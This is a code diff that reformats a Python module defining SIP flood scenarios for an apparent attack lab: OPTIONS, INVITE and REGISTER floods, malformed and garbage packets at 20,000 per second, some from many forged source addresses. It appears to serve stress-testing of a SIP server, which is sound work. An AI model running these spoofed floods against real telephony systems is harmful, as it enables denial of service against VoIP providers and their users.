@@ -5,8 +5,10 @@ from attack.lab import Scenario
 from attack.legit import PHONES, caller_place
 
 RATE = 20_000
-HEAD = ("{first} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.9.1:5060;branch=z9hG4bKf%d;rport\r\nMax-Forwards: 70\r\nFrom: <{frm}>;tag=f%d\r\n"
-        "To: <{to}>\r\nCall-ID: f%d\r\nCSeq: 1 {method}\r\nContact: <sip:x@198.18.9.1>\r\n{more}Content-Length: 0\r\n\r\n")
+HEAD = (
+    "{first} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.9.1:5060;branch=z9hG4bKf%d;rport\r\nMax-Forwards: 70\r\nFrom: <{frm}>;tag=f%d\r\n"
+    "To: <{to}>\r\nCall-ID: f%d\r\nCSeq: 1 {method}\r\nContact: <sip:x@198.18.9.1>\r\n{more}Content-Length: 0\r\n\r\n"
+)
 
 
 def template(method, uri, frm, to, more=""):
@@ -18,9 +20,15 @@ KINDS = {
     "options": ("OPTIONS to the server", template("OPTIONS", DOMAIN, "sip:x@elsewhere.example", DOMAIN)),
     "invite": ("INVITEs of a user without credentials", template("INVITE", VICTIM, sip.aor("caller0"), VICTIM)),
     "register": ("REGISTERs without credentials", template("REGISTER", DOMAIN, VICTIM, VICTIM)),
-    "malformed": ("malformed requests", template("INVITE", VICTIM, "<<@", VICTIM, "Content-Length: -%d\r\nVia\r\n: :\r\n").replace(b"CSeq: 1", b"CSeq: x")),
+    "malformed": (
+        "malformed requests",
+        template("INVITE", VICTIM, "<<@", VICTIM, "Content-Length: -%d\r\nVia\r\n: :\r\n").replace(b"CSeq: 1", b"CSeq: x"),
+    ),
     "garbage": ("bytes that are not SIP", bytes(range(1, 37)) * 8 + b"%d" * 3),
-    "unknown": ("INVITEs of strangers to nobody", template("INVITE", sip.aor("nobody%d"), "sip:x@elsewhere.example", sip.aor("nobody"))),
+    "unknown": (
+        "INVITEs of strangers to nobody",
+        template("INVITE", sip.aor("nobody%d"), "sip:x@elsewhere.example", sip.aor("nobody")),
+    ),
 }
 
 
@@ -31,8 +39,10 @@ class Flood(Scenario):
     def __init__(self, kind, sources):
         what, self.text = KINDS[kind]
         self.sources = sources
-        super().__init__(name=f"flood-{kind}-{'one' if sources == 1 else 'many'}",
-                         what=f"{RATE:,} {what} a second from {'one source' if sources == 1 else f'{sources:,} sources'}")
+        super().__init__(
+            name=f"flood-{kind}-{'one' if sources == 1 else 'many'}",
+            what=f"{RATE:,} {what} a second from {'one source' if sources == 1 else f'{sources:,} sources'}",
+        )
 
     def attack(self, lab):
         text, fields = self.text, self.text.count(b"%d")
@@ -48,6 +58,7 @@ class Flood(Scenario):
                 data = text % ((number,) * fields)
                 forger.send(data, net.source(number))
                 return len(data)
+
             lab.flood(RATE, send)
 
 
@@ -73,6 +84,7 @@ class Spoofed(Scenario):
             data = text % ((number,) * 3)
             forger.send(data, address, port)
             return len(data)
+
         lab.flood(300 * PHONES, send)
 
 
